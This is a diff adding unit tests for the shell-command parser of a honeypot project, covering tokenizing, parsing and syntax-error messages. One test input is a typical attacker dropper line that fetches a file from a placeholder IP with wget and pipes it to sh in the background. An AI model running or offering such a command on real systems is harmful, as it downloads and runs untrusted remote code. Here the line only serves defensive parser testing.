@@ -0,0 +1,36 @@
+from honeygrove.core.ShellParser import Command, ShellSyntaxError, parse, tokenize
+
+import unittest
+
+
+class ShellParserTest(unittest.TestCase):
+    def test_tokenize(self):
+        self.assertEqual(tokenize("echo \"a \\\"b\\\" \\$x\" 'c \\d' e\\ f # comment"),
+                         [('word', 'echo'), ('word', 'a "b" $x'), ('word', 'c \\d'), ('word', 'e f')])
+        self.assertEqual(tokenize("a#b&&c||d|e;f&"),
+                         [('word', 'a#b'), ('control', '&&'), ('word', 'c'), ('control', '||'), ('word', 'd'),
+                          ('control', '|'), ('word', 'e'), ('control', ';'), ('word', 'f'), ('control', '&')])
+        self.assertEqual(tokenize("x>a 2>>b <c &>d 2>&1"),
+                         [('word', 'x'), ('redirect', '>'), ('word', 'a'), ('redirect', '2>>'), ('word', 'b'),
+                          ('redirect', '<'), ('word', 'c'), ('redirect', '&>'), ('word', 'd'),
+                          ('duplicate', '2>&1')])
+
+    def test_parse(self):
+        self.assertEqual(parse("cd /tmp || cd /var/run; wget http://1.2.3.4/x -O- | sh > /dev/null 2>&1 &"),
+                         [Command(None, ['cd', '/tmp'], []),
+                          Command('||', ['cd', '/var/run'], []),
+                          Command(';', ['wget', 'http://1.2.3.4/x', '-O-'], []),
+                          Command('|', ['sh'], [('>', '/dev/null'), ('2>&1', None)])])
+        self.assertEqual(parse("> file"), [Command(None, [], [('>', 'file')])])
+        self.assertEqual(parse("  # only a comment"), [])
+
+    def test_syntax_errors(self):
+        for line, message in (("; ls", "syntax error near unexpected token `;'"),
+                              ("ls && || pwd", "syntax error near unexpected token `||'"),
+                              ("ls > ;", "syntax error near unexpected token `;'"),
+                              ("ls >", "syntax error near unexpected token `newline'"),
+                              ("ls |", "syntax error: unexpected end of file"),
+                              ("echo \"a", "unexpected EOF while looking for matching `\"'")):
+            with self.assertRaises(ShellSyntaxError) as context:
+                parse(line)
+            self.assertEqual(str(context.exception), message)